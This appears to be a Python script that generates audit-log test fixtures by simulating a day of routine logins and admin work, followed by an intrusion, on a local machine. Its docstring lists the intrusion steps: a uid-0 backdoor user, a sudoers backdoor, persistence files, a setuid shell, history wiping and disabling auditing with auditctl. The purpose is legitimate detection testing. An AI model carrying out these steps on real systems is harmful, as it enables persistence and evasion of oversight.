#!/usr/bin/env python3
"""Record a realistic audit "day" on this machine (Debian 12, root, no system
auditd running) under a real, published rule set.  See README.md in this
folder for how the bundled recordings were made.

    # record (about 3-4 minutes; waits for the global auditd lock first)
    /opt/audit-notify-test/py/bin/python tests/data/days/make_day.py \
        --day neo23x0 --format RAW --out tests/data/days/neo23x0.log
    /opt/audit-notify-test/py/bin/python tests/data/days/make_day.py \
        --day stig --format RAW --out tests/data/days/stig.log

    # (re)build DAY.rules from upstream git checkouts (bare mirrors are fine);
    # this loads each candidate line once into a private auditd to see which
    # ones this kernel/auditctl accept
    /opt/audit-notify-test/py/bin/python tests/data/days/make_day.py \
        --build-rules --day neo23x0 --repo /path/to/Neo23x0/auditd
    /opt/audit-notify-test/py/bin/python tests/data/days/make_day.py \
        --build-rules --day stig --repo /path/to/linux-audit/audit-userspace

    # the second day plan (intrusion.py: a web shell, a reverse shell and an
    # intrusion done through command lines) under admin.rules (hand-written)
    # or bfuzzy.rules (bfuzzy/auditd-attack)
    /opt/audit-notify-test/py/bin/python tests/data/days/make_day.py \
        --day admin --format RAW --out tests/data/days/admin.log

Recording writes OUT (what a plugin reads on stdin: the only plugin of the
private auditd is `/bin/sh -c 'exec /bin/cat >> FILE'`), and beside it
OUT-without-.log + `.manifest.json` (every action: time, kind routine|attack,
severity, label, user, session, source, command, and which records in OUT
show it) and `.expected.md` (the same as a human-readable list of incidents).

What happens (all under tests/auditd_env.py's private_auditd, which takes the
global lock /run/audit-notify-tests.lock and restores the kernel on exit):

* before the capture (not recorded): users alice and bob (ordinary) and
  opsadm (member of group sudo, i.e. password sudo) with a little content in
  their homes; /root/.ssh/authorized_keys with one legitimate key (only if
  /root/.ssh did not exist); /var/log/zz-dayapp.log; package kmod if missing
  (for insmod); a private sshd config (127.0.0.1, password auth, sftp);
* the capture: DAEMON_START; `auditctl -R` of the rule lines in DAY.rules
  (one process, as augenrules does at boot); a SERVICE_START for "ssh" and
  the private sshd on 127.0.0.1:<free port> (started now, so it is audited);
  then the day, with real pauses between commands:
  - routine: alice mistypes her password once, then works in an interactive
    pty session (ls, cd, cat, grep, echo >> notes, ps, df, uname, id, date,
    history); meanwhile bob runs `ssh host 'uptime; ls -l reports'` (no pty);
    bob mistypes once, then uses SFTP (put + get); opsadm (pty) runs
    `sudo ls /root` (password prompt), `sudo cat /etc/shadow`,
    `sudo apt-get install -y sl`, `su - bob -c id`; root runs
    `cd / && run-parts --report /etc/cron.daily` the way cron does (a new
    audit session with auid 0, cron's environment; APT_CONFIG sets
    APT::Periodic::RandomSleep 0 so apt-compat does not sleep up to 30 min);
    root (auid 0, own session) runs `apt-get install -y figlet`;
  - attack-like: bob runs `cat /etc/shadow` over ssh (denied); then "opsadm"
    logs in from 127.0.0.66 (a second loopback address, so the attacker's
    source differs) and, in one pty session: recon (whoami, id, uname -a,
    cat /etc/passwd, ss -tlnp, netstat -tan, sudo -l), adds a uid-0 user
    svc-backup and sets its password (useradd -o -u 0, chpasswd), writes
    /etc/sudoers.d/zz-backdoor (opsadm NOPASSWD: ALL), opens a root shell
    with `sudo sh` and as root appends a key to /root/.ssh/authorized_keys,
    writes /etc/cron.d/zz-persist, /etc/systemd/system/zz-persist.service,
    /etc/ld.so.preload (content: the real libc path, so it is harmless for
    other processes), /etc/profile.d/zz.sh, tries `insmod` of a fake module
    (fails: this kernel has no module support; the attempt is audited), and
    truncates /var/log/zz-dayapp.log; back as opsadm it downloads a script
    from a python http.server on 127.0.0.1 (run as nobody) with wget,
    chmod +x's and runs it, makes a setuid copy of bash (sudo cp + sudo chmod
    u+s /tmp/.x) and runs `/tmp/.x -p -c id`, deletes ~/.bash_history, and
    LAST `sudo auditctl -D` and `sudo auditctl -e 0` (nothing after that
    reaches the log except auditd's own DAEMON_END).
* the machine is shared (other sessions run tests, shells, greps, browsers
  while we record) and these rule sets audit everybody, so the capture also
  holds events of processes that have nothing to do with the day.  Those are
  removed, whole events (every record of that msg=audit(...) id), before OUT
  is written: an event is foreign if no record has a set auid (every login,
  su, sudo and cron/root session of the day has one; the other sessions on
  this VM have none) and none of its pid=/ppid= values is one of this
  script's descendants (sshd and its children, auditd, auditctl, the http
  server, this process; sampled from /proc every 50 ms).  Everything else is
  byte for byte what the plugin read, in order.  --keep-foreign keeps them.
  The manifest's stats say how many events were captured and removed;
* after the capture everything is undone: sshd and the http server are
  stopped, users alice/bob/opsadm (with homes, mail, sudo lecture/timestamp
  files) and svc-backup are deleted, sl and figlet (and kmod if we installed
  it) are purged and their .debs removed from /var/cache/apt/archives, all
  files the day wrote in /etc, /root/.ssh, /tmp and /var/log/zz-dayapp.log are
  removed; /etc/{passwd,shadow,group,gshadow,subuid,subgid} and their "-"
  backups, /var/log/{wtmp,btmp,lastlog,faillog,dpkg.log,alternatives.log},
  /var/log/apt/{history,term}.log, /var/log/apt/eipp.log.xz,
  /var/lib/apt/extended_states, /run/motd.dynamic, /root/.ssh, /var/backups,
  /var/cache/man, /var/lib/apt/periodic and /var/lib/sudo are put back byte
  for byte (the /etc account files only when the only difference left is
  ours); the script prints what it verified.

It refuses to run if the users or groups alice, bob, opsadm, svc-backup
exist, if sl or figlet is installed, or if any attack artefact path exists.
Re-running gives new timestamps, serials, pids, ports and temp paths.
"""

from __future__ import annotations

import argparse
import binascii
import datetime as dt
import hashlib
import json
import os
import re
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
TESTS = HERE.parent.parent
sys.path.insert(0, str(TESTS))

from auditd_env import private_auditd  # noqa: E402

# ---------------------------------------------------------------------------
# constants

PASSWORDS = {"alice": "Al1ce-day-4711", "bob": "B0b-day-4711",
             "opsadm": "0psadm-day-4711"}
BACKDOOR = "svc-backup"
BACKDOOR_PASSWORD = "Svc-b4ckup!2026"
ACCOUNTS = ("alice", "bob", "opsadm", BACKDOOR)
ADMIN_PKG, ROOT_PKG, SETUP_PKG = "sl", "figlet", "kmod"
ATTACK_SRC = "127.0.0.66"
APP_LOG = "/var/log/zz-dayapp.log"
ARTEFACTS = ("/etc/sudoers.d/zz-backdoor", "/etc/cron.d/zz-persist",
             "/etc/systemd/system/zz-persist.service", "/etc/ld.so.preload",
             "/etc/profile.d/zz.sh", "/tmp/.x", "/tmp/.update.sh",
             "/tmp/.update.log", "/tmp/.m", APP_LOG)
LEGIT_KEY = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHd0cFa1kq9lTnYkT4mQ9v2r8Yc3b6N"
             "0pJ1sX5e7uW2 root@backup-host\n")
ATTACK_KEY = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE8xq2Vn7rT0mY3cL9pK1wZ4sD6f"
              "H8jB5gN2aQ7eR0u kali@kali")
LIBC = "/lib/x86_64-linux-gnu/libc.so.6"

# files put back byte for byte after the run (absent ones are removed again)
SNAP_FILES = (
    "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog", "/var/log/faillog",
    "/var/log/dpkg.log", "/var/log/alternatives.log",
    "/var/log/apt/history.log", "/var/log/apt/term.log",
    "/var/log/apt/eipp.log.xz", "/var/lib/apt/extended_states",
    "/run/motd.dynamic",
)
# account files: restored only if what differs is ours (other test runs may
# add users while we run)
ACCOUNT_FILES = ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow",
                 "/etc/subuid", "/etc/subgid")
BACKUP_FILES = tuple(p + "-" for p in ACCOUNT_FILES)
SNAP_TREES = ("/root/.ssh", "/var/backups", "/var/cache/man",
              "/var/lib/apt/periodic", "/var/lib/sudo")

# rule sources per day: (repository, path)
SOURCES = {
    "neo23x0": ("Neo23x0/auditd", ["audit.rules"]),
    "stig": ("linux-audit/audit-userspace", [
        "rules/10-base-config.rules", "rules/30-stig.rules",
        "rules/31-privileged.rules", "rules/42-injection.rules",
        "rules/43-module-load.rules", "rules/44-installers.rules",
        "rules/71-networking.rules"]),
    "bfuzzy": ("bfuzzy/auditd-attack", ["auditd-attack.rules"]),
}
# days whose plan is the second one (intrusion.py: web shell, reverse shell,
# command-line-only persistence, ...); "admin" has hand-written rules, so no
# upstream source
SECOND_PLAN_DAYS = ("admin", "bfuzzy")
LICENSES = {
    "Neo23x0/auditd": (
        "Apache License 2.0 (LICENSE in the repository; "
        "https://www.apache.org/licenses/LICENSE-2.0). Compiled by Florian "
        "Roth and contributors. This is a MODIFIED copy (see below)."),
    "linux-audit/audit-userspace": (
        "GPL-2.0-or-later (COPYING in the repository; the rules ship in the "
        "GPL-licensed audit package, Debian: /usr/share/doc/auditd/examples/"
        "rules). Copyright Red Hat Inc. and contributors. Redistributed as "
        "test data with the changes listed below; not linked with or part of "
        "audit-notify's MIT-licensed code."),
    "bfuzzy/auditd-attack": (
        "MIT License (LICENSE in the repository), Copyright (c) 2018 bfuzzy. "
        "Redistributed as test data with the changes listed below."),
}
# option lines never loaded: (first token, reason)
DROP_OPTS = {
    "-D": "delete all rules: the private auditd starts from an empty list (and the fixture deletes them at the end)",
    "-b": "backlog size: the fixture sets the kernel backlog itself and restores it",
    "--backlog_wait_time": "kernel setting, not a rule; not changed by tests",
    "-f": "failure mode (-f 2 would panic the kernel); not changed by tests",
    "-e": "enable flag (-e 2 makes the rules immutable until reboot); not changed by tests",
    "-r": "rate limit: kernel setting, not a rule",
    "-i": "'ignore errors' loader option: failing lines are left out instead (listed below)",
    "-c": "'continue on error' loader option; failing lines are left out instead",
    "--loginuid-immutable": "would lock loginuids until reboot",
    "--reset-lost": "kernel counter, not a rule",
}


def log(*a, sep=" "):
    print(*a, sep=sep, flush=True)


def run(*cmd, input=None, check=True, env=None, timeout=600):
    log("+", " ".join(shlex.quote(c) for c in cmd))
    p = subprocess.run(cmd, input=input, text=True, check=False,
                       capture_output=True, env=env, timeout=timeout)
    if check and p.returncode != 0:
        log(f"  failed ({p.returncode}): {p.stderr.strip()[-1000:]}")
        p.check_returncode()
    return p


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def exists_account(name):
    return subprocess.run(["getent", "passwd", name], capture_output=True).returncode == 0


def exists_group(name):
    return subprocess.run(["getent", "group", name], capture_output=True).returncode == 0


def pkg_installed(name):
    p = subprocess.run(["dpkg-query", "-W", "-f=${db:Status-Abbrev}", name],
                       capture_output=True, text=True)
    return p.returncode == 0 and p.stdout.startswith("ii")


def utc(ts):
    return dt.datetime.fromtimestamp(ts, dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")[:-4] + "Z"


# ---------------------------------------------------------------------------
# rule files


def _git(repo, *args):
    return subprocess.run(["git", "-C", repo, *args], capture_output=True,
                          text=True, check=True).stdout


_SYSCALL_OK: dict = {}


def _syscall_known(table, name):
    if name == "all" or name.isdigit():
        return True
    key = (table, name)
    if key not in _SYSCALL_OK:
        p = subprocess.run(["ausyscall", table, name], capture_output=True)
        _SYSCALL_OK[key] = p.returncode == 0
    return _SYSCALL_OK[key]


def adapt_syscalls(args):
    """Remove -S names this auditctl (ausyscall) does not know.  Returns
    (new_args or None if nothing is left, [removed names])."""
    table = "x86_64"
    for i, a in enumerate(args):
        if a == "-F" and i + 1 < len(args) and args[i + 1] == "arch=b32":
            table = "i386"
    out, removed, i = [], [], 0
    while i < len(args):
        if args[i] == "-S" and i + 1 < len(args):
            names = args[i + 1].split(",")
            keep = [n for n in names if _syscall_known(table, n)]
            removed += [n for n in names if n not in keep]
            if keep:
                out += ["-S", ",".join(keep)]
            else:
                out.append(None)  # a -S that lost all its names
            i += 2
        else:
            out.append(args[i])
            i += 1
    if None in out:
        return None, removed
    return out, removed


def build_rules(day, repo, commit, adapt, out_path):
    source_repo, paths = SOURCES[day]
    commit = _git(repo, "rev-parse", commit).strip()
    cdate = _git(repo, "show", "-s", "--format=%ci", commit).strip()
    dropped, adapted, candidates = [], [], []  # candidates: (path, lineno, text)
    skipped_files = []
    for path in paths:
        try:
            text = _git(repo, "show", f"{commit}:{path}")
        except subprocess.CalledProcessError:
            skipped_files.append((path, "not in this commit"))
            continue
        n_rules = 0
        for lineno, line in enumerate(text.split("\n"), 1):
            s = line.strip()
            if not s or s.startswith("#"):
                continue
            n_rules += 1
            first = s.split()[0]
            if first in DROP_OPTS:
                dropped.append((path, lineno, s, DROP_OPTS[first]))
                continue
            args = shlex.split(s)
            if adapt:
                new, removed = adapt_syscalls(args)
                if removed:
                    if new is None:
                        dropped.append((path, lineno, s, "all its syscall names are unknown to auditctl 3.0.9: " + ",".join(removed)))
                        continue
                    new_text = " ".join(new)
                    adapted.append((path, lineno, s, new_text, removed))
                    s = new_text
            candidates.append((path, lineno, s))
        if n_rules == 0:
            skipped_files.append((path, "no active lines (only comments: "
                                  + ("a template whose rules must be generated with find/filecap; not generated here)"
                                     if "privileged" in path else "nothing to load)")))
    # try each candidate once in a private auditd (no plugin, nothing recorded)
    failed, loaded = [], []
    with tempfile.TemporaryDirectory(prefix="an-day-rules-") as d:
        with private_auditd(d):
            for path, lineno, s in candidates:
                p = subprocess.run(["auditctl", *shlex.split(s)], capture_output=True, text=True)
                if p.returncode != 0:
                    msg = (p.stderr.strip() or p.stdout.strip()).replace("\n", " | ")
                    failed.append((path, lineno, s, msg))
                else:
                    loaded.append((path, lineno, s))
            listed = subprocess.run(["auditctl", "-l"], capture_output=True, text=True).stdout
    n_listed = len([x for x in listed.split("\n") if x.strip() and x.strip() != "No rules"])
    auditctl_v = subprocess.run(["auditctl", "-v"], capture_output=True, text=True).stdout.strip()
    kernel = os.uname().release
    h = []
    h.append(f"## {day}.rules -- the audit rules loaded for the \"{day}\" day recordings")
    h.append("## (tests/data/days/%s*.log).  Written by tests/data/days/make_day.py --build-rules" % day)
    h.append(f"## on {dt.date.today().isoformat()} with {auditctl_v} on Linux {kernel} x86_64 (Debian 12).")
    h.append('## make_day.py loads the non-comment lines below with one `auditctl -R FILE` (FILE = "-c" + these lines).')
    h.append("##")
    h.append(f"## Source: https://github.com/{source_repo} commit {commit} ({cdate})")
    h.append("##   files: " + ", ".join(paths))
    h.append("## License: " + LICENSES[source_repo])
    h.append("## Changes: comments and blank lines removed; the lines below dropped,")
    h.append("## adapted or left out; nothing else changed, order kept.")
    if skipped_files:
        h.append("##")
        h.append("## Files that contributed nothing:")
        for path, why in skipped_files:
            h.append(f"##   {path}: {why}")
    h.append("##")
    h.append(f"## Dropped before loading ({len(dropped)}; option lines, never rules):")
    for path, lineno, s, why in dropped:
        h.append(f"##   {path}:{lineno}: {s}  -- {why}")
    if adapted:
        h.append("##")
        h.append(f"## Adapted ({len(adapted)}): syscall names unknown to auditctl 3.0.9 "
                 "(newer than Debian 12's audit) removed from the -S list; the rest of the")
        h.append("## line is unchanged (run --build-rules --no-adapt to drop such lines instead):")
        for path, lineno, s, new, removed in adapted:
            h.append(f"##   {path}:{lineno}: removed {','.join(removed)}; original: {s}")
    h.append("##")
    h.append(f"## Failed to load on this machine, left out ({len(failed)}; upstream loads them with -i/-c):")
    for path, lineno, s, msg in failed:
        h.append(f"##   {path}:{lineno}: {s}  -- auditctl: {msg}")
    h.append("##")
    h.append(f"## Loaded: {len(loaded)} rule lines (auditctl -l then listed {n_listed}).")
    body = []
    current = None
    for path, lineno, s in loaded:
        if len(paths) > 1 and path != current:
            body.append(f"## --- {path}")
            current = path
        body.append(s)
    Path(out_path).write_text("\n".join(h + body) + "\n")
    log(f"wrote {out_path}: {len(loaded)} loaded, {len(failed)} failed, "
        f"{len(dropped)} dropped, {len(adapted)} adapted, auditctl -l {n_listed}")


def read_rule_lines(path):
    return [line.strip() for line in Path(path).read_text().split("\n")
            if line.strip() and not line.strip().startswith("#")]


# ---------------------------------------------------------------------------
# machine state: snapshots and cleanup


class FileSnap:
    def __init__(self, path):
        self.path = path
        self.exists = os.path.lexists(path)
        if self.exists:
            st = os.lstat(path)
            self.data = Path(path).read_bytes()
            self.mode, self.uid, self.gid = st.st_mode & 0o7777, st.st_uid, st.st_gid

    def same(self):
        if not self.exists:
            return not os.path.lexists(self.path)
        try:
            st = os.lstat(self.path)
            return (Path(self.path).read_bytes() == self.data
                    and (st.st_mode & 0o7777, st.st_uid, st.st_gid) == (self.mode, self.uid, self.gid))
        except OSError:
            return False

    def restore(self):
        if self.same():
            return False
        if not self.exists:
            if os.path.isdir(self.path) and not os.path.islink(self.path):
                shutil.rmtree(self.path)
            else:
                os.unlink(self.path)
            return True
        tmp = self.path + ".an-day-restore"
        with open(tmp, "wb") as f:
            f.write(self.data)
        os.chown(tmp, self.uid, self.gid)
        os.chmod(tmp, self.mode)
        os.replace(tmp, self.path)
        return True


class TreeSnap:
    """A directory tree saved with tar (owners, modes, times) and put back."""

    def __init__(self, path, workdir):
        self.path = path
        self.exists = os.path.lexists(path)
        self.tar = None
        if self.exists:
            self.tar = os.path.join(workdir, "snap" + path.replace("/", "_") + ".tar")
            subprocess.run(["tar", "-C", os.path.dirname(path), "-cpf", self.tar,
                            os.path.basename(path)], check=True)
        self.digest = self._digest()

    def _digest(self):
        if not os.path.lexists(self.path):
            return None
        h = hashlib.sha256()
        for root, dirs, files in os.walk(self.path):
            dirs.sort()
            for name in sorted(dirs + files):
                p = os.path.join(root, name)
                st = os.lstat(p)
                h.update(f"{os.path.relpath(p, self.path)} {st.st_mode:o} {st.st_uid} {st.st_gid}\n".encode())
                if os.path.isfile(p) and not os.path.islink(p):
                    h.update(Path(p).read_bytes())
        return h.hexdigest()

    def same(self):
        return self._digest() == self.digest

    def restore(self):
        if self.same():
            return False
        if os.path.lexists(self.path):
            shutil.rmtree(self.path)
        if self.exists:
            subprocess.run(["tar", "-C", os.path.dirname(self.path), "-xpf", self.tar], check=True)
        return True


def preflight():
    if os.geteuid() != 0:
        sys.exit("must run as root")
    for u in ACCOUNTS:
        if exists_account(u):
            sys.exit(f"user {u} exists already; refusing")
        if exists_group(u):
            sys.exit(f"group {u} exists already; refusing")
    for p in ARTEFACTS:
        if os.path.lexists(p):
            sys.exit(f"{p} exists already; refusing")
    for p in (ADMIN_PKG, ROOT_PKG):
        if pkg_installed(p):
            sys.exit(f"package {p} is installed; refusing (the day installs it)")
    for exe in ("/usr/sbin/sshd", "/usr/bin/sudo", "/usr/bin/wget", "/usr/bin/ss",
                "/usr/bin/netstat", "/usr/bin/python3", "/usr/lib/openssh/sftp-server"):
        if not os.access(exe, os.X_OK):
            sys.exit(f"{exe} missing")


# ---------------------------------------------------------------------------
# manifest

_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"


def _uid(user):
    import pwd
    try:
        return pwd.getpwnam(user).pw_uid
    except KeyError:
        return None


def _exe_needles(command):
    """'"/usr/bin/id"' etc. for the programs a typed command line runs (as
    they appear in exe= and PATH name= fields)."""
    out = []
    for part in re.split(r"\|\||&&|[|;]", command):
        try:
            words = shlex.split(part)
        except ValueError:
            words = part.split()
        words = [w for w in words if not re.match(r"^[A-Za-z_]+=", w)]
        if words and words[0] == "sudo":
            out.append('"/usr/bin/sudo"')
            words = [w for w in words[1:] if not w.startswith("-")]
        if not words:
            continue
        w = words[0]
        path = w if "/" in w else shutil.which(w, path=_PATH)
        if path and not w.startswith(">"):
            out.append(f'"{path}"')
    return out



class Manifest:
    def __init__(self):
        self.actions = []

    class _Action:
        def __init__(self, manifest, entry, pause):
            self.m, self.e, self.pause = manifest, entry, pause

        def __enter__(self):
            self.e["time"] = time.time()
            return self.e

        def __exit__(self, exc_type, exc, tb):
            self.e["time_end"] = time.time()
            if exc_type is not None:
                self.e["outcome"] = f"script error: {exc_type.__name__}: {exc}"
            self.m.actions.append(self.e)
            if exc_type is None:
                time.sleep(self.pause)  # the person reads the output, thinks, types
            return False

    def action(self, kind, severity, label, user, session, source, command,
               needles=(), types=(), outcome=None, pause=2.5):
        """kind: routine|attack; severity: critical|warning|info|none (none:
        normal activity that should not produce a notification)."""
        uid = 0 if user == "root" else _uid(user)
        e = {"kind": kind, "severity": severity, "label": label, "user": user, "uid": uid,
             "session": session, "source": source, "command": command,
             "needles": list(needles) + _exe_needles(command), "types": list(types)}
        if outcome:
            e["outcome"] = outcome
        return Manifest._Action(self, e, pause)


# ---------------------------------------------------------------------------
# ssh client side (paramiko)

import paramiko  # noqa: E402

ANSI = re.compile(r"\x1b\[[0-9;?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)|\x1b[()][A-Za-z0-9]|\x1b[=>]|\r")
PROMPT = re.compile(r"[$#] $")


class SSH:
    def __init__(self, port, user, passwords, source="127.0.0.1"):
        """Connect and try the passwords in order in ONE connection (as the
        ssh client does after a typo).  self.failures = wrong attempts."""
        self.user = user
        sock = socket.create_connection(("127.0.0.1", port), timeout=20,
                                        source_address=(source, 0))
        self.t = paramiko.Transport(sock)
        self.t.start_client(timeout=20)
        self.failures = 0
        for i, pw in enumerate(passwords):
            try:
                self.t.auth_password(user, pw)
                break
            except paramiko.AuthenticationException:
                self.failures += 1
                log(f"  ssh {user}@{source}: password {i + 1} rejected")
                if i + 1 == len(passwords):
                    self.t.close()
                    raise
                time.sleep(3.0)  # the human retypes
        log(f"  ssh {user}@{source}: logged in")

    def exec(self, cmd, stdin=None, timeout=120):
        ch = self.t.open_session()
        ch.settimeout(timeout)
        ch.exec_command(cmd)
        if stdin is not None:
            ch.sendall(stdin.encode())
            ch.shutdown_write()
        out, err = b"", b""
        while True:
            if ch.recv_ready():
                out += ch.recv(65536)
            elif ch.recv_stderr_ready():
                err += ch.recv_stderr(65536)
            elif ch.exit_status_ready() and not ch.recv_ready() and not ch.recv_stderr_ready():
                break
            else:
                time.sleep(0.02)
        rc = ch.recv_exit_status()
        ch.close()
        log(f"  {self.user}$ {cmd} -> {rc} {out.decode(errors='replace').strip()[:200]!r} "
            f"{err.decode(errors='replace').strip()[:200]!r}")
        return rc, out.decode(errors="replace"), err.decode(errors="replace")

    def shell(self):
        return Shell(self)

    def sftp(self):
        return paramiko.SFTPClient.from_transport(self.t)

    def close(self):
        self.t.close()
        time.sleep(3.0)  # sshd writes the session's end records; the next person types


class Shell:
    """An interactive pty shell driven like a person at a terminal."""

    def __init__(self, ssh):
        self.user = ssh.user
        self.ch = ssh.t.open_session()
        self.ch.get_pty(term="xterm", width=150, height=50)
        self.ch.invoke_shell()
        self.ch.settimeout(0.2)
        self.transcript = []
        self._read_until([PROMPT], timeout=30)

    def _read_until(self, patterns, timeout):
        buf = ""
        deadline = time.monotonic() + timeout
        while True:
            try:
                data = self.ch.recv(65536)
                if not data:
                    raise EOFError(f"shell of {self.user} closed; got {buf[-500:]!r}")
                buf += data.decode(errors="replace")
            except socket.timeout:
                pass
            clean = ANSI.sub("", buf)
            for i, p in enumerate(patterns):
                if p.search(clean):
                    self.transcript.append(clean)
                    return i, clean
            if time.monotonic() > deadline:
                raise TimeoutError(f"{self.user}: waiting for {patterns}; got {clean[-800:]!r}")

    def run(self, cmd, answers=(), timeout=60, pause=0.0):
        """Type CMD; answer prompts (regex, text) as they come; wait for the
        shell prompt.  Returns the cleaned output."""
        self.ch.send(cmd + "\n")
        pats = [PROMPT] + [re.compile(a[0] + r"\s*$") for a in answers]
        out = ""
        used = set()
        while True:
            i, text = self._read_until(pats, timeout)
            out += text
            if i == 0:
                break
            if i in used:
                raise RuntimeError(f"{self.user}: prompt {answers[i - 1][0]!r} again: {text[-300:]!r}")
            used.add(i)
            time.sleep(0.8)  # typing the password
            self.ch.send(answers[i - 1][1] + "\n")
        lines = out.split("\n")
        log(f"  [{self.user} pty] {cmd} -> {' / '.join(l.strip() for l in lines[1:-1])[:300]!r}")
        if pause:
            time.sleep(pause)
        return out

    def exit(self):
        self.ch.send("exit\n")
        deadline = time.monotonic() + 15
        while not self.ch.exit_status_ready() and time.monotonic() < deadline:
            try:
                self.ch.recv(65536)
            except socket.timeout:
                pass
        self.ch.close()


# ---------------------------------------------------------------------------
# the day


def service_message(kind, unit):
    """SERVICE_START/STOP as systemd sends it (via libaudit)."""
    import audit
    fd = audit.audit_open()
    try:
        typ = audit.AUDIT_SERVICE_START if kind == "start" else audit.AUDIT_SERVICE_STOP
        audit.audit_log_user_comm_message(fd, typ, f"unit={unit}", "systemd", None, None, None, 1)
    finally:
        audit.audit_close(fd)


def root_session(work, command, env, timeout=900):
    """Run COMMAND (a /bin/sh -c string) as root in a new audit session with
    auid 0, as cron (pam_loginuid) or a root console login would."""
    # Inline, not a script file: a helper under /tmp would itself look like
    # "a program run from a temporary place", which no real cron job is.
    wrapper = 'printf 0 > /proc/self/loginuid || exit 1; exec /bin/sh -c "$1"'
    p = subprocess.run(["/bin/sh", "-c", wrapper, "root-session", command], env=env,
                       capture_output=True, text=True,
                       start_new_session=True, timeout=timeout, cwd="/")
    log(f"  [root] {command} -> {p.returncode} {p.stdout.strip()[-300:]!r} {p.stderr.strip()[-300:]!r}")
    return p


def the_day(m, ad, work, port, http_port):
    pw = PASSWORDS
    local = "127.0.0.1"
    sudo_pw = [(r"\[sudo\] password for opsadm:", pw["opsadm"])]
    A = m.action

    # -- alice: typo, then an interactive session ------------------------
    with A("routine", "warning", "failed SSH password for alice from 127.0.0.1 (typo; retried in the same connection)",
           "alice", "ssh", local, "ssh alice@host (wrong password)",
           needles=['acct="alice"'], types=["USER_AUTH"]):
        alice = SSH(port, "alice", ["Alice-day-4711", pw["alice"]])
    with A("routine", "info", "SSH login alice from 127.0.0.1 with a terminal (interactive)",
           "alice", "ssh", local, "ssh alice@host", needles=['acct="alice"'],
           types=["USER_LOGIN", "USER_START"]):
        sh = alice.shell()
    for cmd, needles in (("ls -la", []), ("cd docs", []), ("ls", []), ("cat todo.txt", ["todo.txt"]),
                         ("cd", []), ("grep -n meeting notes.txt", ["notes.txt"])):
        with A("routine", "none", "alice: everyday shell work", "alice", "ssh", local, cmd, needles=needles):
            sh.run(cmd)
    # meanwhile bob runs a command over ssh without a pty
    with A("routine", "warning", "SSH login bob from 127.0.0.1 without a terminal (ssh host cmd)",
           "bob", "ssh", local, "ssh bob@host 'uptime; ls -l reports'",
           needles=['acct="bob"', "uptime"], types=["USER_START", "LOGIN"]):
        bob = SSH(port, "bob", [pw["bob"]])
        bob.exec("uptime; ls -l reports")
        bob.close()
    for cmd, needles in (('echo "- follow up with bob about the Q3 report" >> ~/notes.txt', ["notes.txt"]),
                         ("ps aux | head -5", []), ("df -h /", []), ("uname -a", ["uname"]),
                         ("id", []), ("date", []), ("history | tail -5", [])):
        with A("routine", "none", "alice: everyday shell work", "alice", "ssh", local, cmd, needles=needles):
            sh.run(cmd)
    with A("routine", "none", "alice logs out", "alice", "ssh", local, "exit", needles=['acct="alice"'],
           types=["USER_END", "CRED_DISP"]):
        sh.exit()
        alice.close()

    # -- bob: typo, then sftp ----------------------------------------------
    with A("routine", "warning", "failed SSH password for bob from 127.0.0.1 (typo; retried in the same connection)",
           "bob", "ssh", local, "sftp bob@host (wrong password)", needles=['acct="bob"'], types=["USER_AUTH"]):
        bob = SSH(port, "bob", ["B0b-day-4771", pw["bob"]])
    with A("routine", "info", "SFTP session bob from 127.0.0.1: put upload/q3-report.csv, get notes.txt",
           "bob", "ssh", local, "sftp> put q3-report.csv upload/; get notes.txt",
           needles=["sftp-server", "q3-report.csv"], types=["USER_START"]):
        sftp = bob.sftp()
        sftp.put(str(work / "q3-report.csv"), "upload/q3-report.csv")
        time.sleep(1.0)
        sftp.get("notes.txt", str(work / "bob-notes.txt"))
        time.sleep(0.5)
        log("  sftp ls:", sftp.listdir("upload"))
        sftp.close()
        bob.close()

    # -- opsadm: routine admin work from 127.0.0.1 ---------------------------
    with A("routine", "info", "SSH login opsadm from 127.0.0.1 with a terminal (interactive)",
           "opsadm", "ssh", local, "ssh opsadm@host", needles=['acct="opsadm"'], types=["USER_LOGIN"]):
        ops = SSH(port, "opsadm", [pw["opsadm"]])
        sh = ops.shell()
    with A("routine", "info", "sudo by opsadm: ls /root (password asked)", "opsadm", "sudo", local,
           "sudo ls /root", needles=["ls /root"], types=["USER_CMD"]):
        sh.run("sudo ls /root", sudo_pw)
    with A("routine", "info", "sudo by opsadm: cat /etc/shadow", "opsadm", "sudo", local,
           "sudo cat /etc/shadow", needles=["cat /etc/shadow"], types=["USER_CMD"]):
        sh.run("sudo cat /etc/shadow", sudo_pw)
    with A("routine", "info", f"package {ADMIN_PKG} installed by opsadm via sudo apt-get", "opsadm", "sudo", local,
           f"sudo apt-get install -y {ADMIN_PKG}", needles=[f"install -y {ADMIN_PKG}", f"/usr/games/{ADMIN_PKG}"],
           types=["USER_CMD"]):
        sh.run(f"sudo apt-get install -y {ADMIN_PKG}", sudo_pw, timeout=300)
    with A("routine", "info", "su by opsadm to bob: su - bob -c id", "opsadm", "su", local,
           "su - bob -c id", needles=['acct="bob"', "su - bob"], types=["USER_AUTH", "USER_START"]):
        sh.run("su - bob -c id", [(r"Password:", pw["bob"])])
    with A("routine", "none", "opsadm logs out", "opsadm", "ssh", local, "exit", types=["USER_END", "CRED_DISP"]):
        sh.exit()
        ops.close()

    # -- root: cron.daily and a package --------------------------------------
    cron_env = {"PATH": "/usr/bin:/bin", "HOME": "/root", "LOGNAME": "root", "SHELL": "/bin/sh",
                "LANG": "C.UTF-8", "APT_CONFIG": str(work / "apt.conf")}
    with A("routine", "info", "cron: run-parts /etc/cron.daily as root (apt-compat, dpkg, man-db)",
           "root", "root (cron-like session, auid 0)", "-", "cd / && run-parts --report /etc/cron.daily",
           needles=["run-parts", "cron.daily", "dpkg-db-backup", "mandb"], types=["LOGIN"]):
        root_session(work, "cd / && run-parts --report /etc/cron.daily", cron_env)
    time.sleep(2)
    root_env = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME": "/root",
